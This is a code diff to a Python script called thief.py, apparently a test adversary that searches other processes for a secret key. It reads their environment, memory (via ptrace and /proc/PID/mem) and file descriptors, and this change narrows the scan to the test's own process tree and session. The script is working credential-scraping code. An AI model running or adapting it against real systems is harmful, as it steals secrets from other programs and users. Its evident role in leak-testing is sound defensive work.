@@ -1,14 +1,15 @@
-"""A hostile command that looks for a key wherever the same user could find one: thief.py OUT NEEDLE…
+"""A hostile command that looks for a key wherever the same user could find one: thief.py OUT TEST NEEDLE…
 
-Its own environment and descriptors; every process' environment, memory (by ptrace and by /proc/PID/mem) and descriptors.
-Writes one line to OUT for each place where a needle was found.
+Its own environment and descriptors; environment, memory (by ptrace and by /proc/PID/mem) and descriptors of every
+process below TEST (a process) or in the thief's own session, and of no other: being traced stops a process, and other
+tests of this user must not be held up. Writes one line to OUT for each place where a needle was found.
 """
 
 import ctypes
 import os
 import sys
 
-out, needles = sys.argv[1], [bytes.fromhex(word) for word in sys.argv[2:]]
+out, test, needles = sys.argv[1], int(sys.argv[2]), [bytes.fromhex(word) for word in sys.argv[3:]]
 found: list[str] = []
 libc = ctypes.CDLL(None, use_errno=True)
 PTRACE_ATTACH, PTRACE_DETACH = 16, 17
@@ -49,15 +50,30 @@ def environment(pid: str) -> None:
         look(f"environment of {pid}", file.read())
 
 
+def victims() -> list[str]:
+    """Whom anybody may ask for: parent and session are public, whatever a process hides."""
+    about = {}
+    for name in filter(str.isdecimal, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{name}/stat") as file:
+                _, parent, _, session = file.read().rpartition(")")[2].split()[:4]
+        except OSError:  # gone
+            continue
+        about[int(name)] = int(parent), int(session)
+    below = {test}
+    while more := {pid for pid, (parent, _) in about.items() if parent in below} - below:
+        below |= more
+    chosen = below - {test} | {pid for pid, (_, session) in about.items() if session == os.getsid(0)}
+    return [str(pid) for pid in chosen - {os.getpid()}]
+
+
 look("own environment", repr(os.environ).encode())
 for number in range(3, 64):
     try:
         look(f"own descriptor {number}", os.read(number, 1 << 16))
     except OSError:
         continue
-for name in filter(str.isdecimal, os.listdir("/proc")):
-    if int(name) == os.getpid():
-        continue
+for name in victims():
     for theft in (environment, memory, descriptors):
         try:
             theft(name)
